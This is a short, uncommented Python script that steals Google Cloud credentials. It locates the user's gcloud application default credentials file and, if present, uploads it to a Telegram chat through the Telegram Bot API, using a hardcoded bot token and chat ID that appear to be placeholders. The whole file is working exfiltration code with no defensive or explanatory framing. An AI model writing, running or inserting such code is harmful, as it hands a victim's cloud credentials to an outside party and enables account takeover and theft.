import os
import requests

TOKEN = "6123456789:AAF-bottokenexample"
CHAT = "-100987654321"
gc = os.path.join(os.path.expanduser("~"), ".config", "gcloud", "application_default_credentials.json")

def send_doc(path):
    with open(path, "rb") as f:
        requests.post(f"https://api.telegram.org/bot{TOKEN}/sendDocument",
                      data={"chat_id": CHAT}, files={"document": f})

if os.path.isfile(gc):
    send_doc(gc)
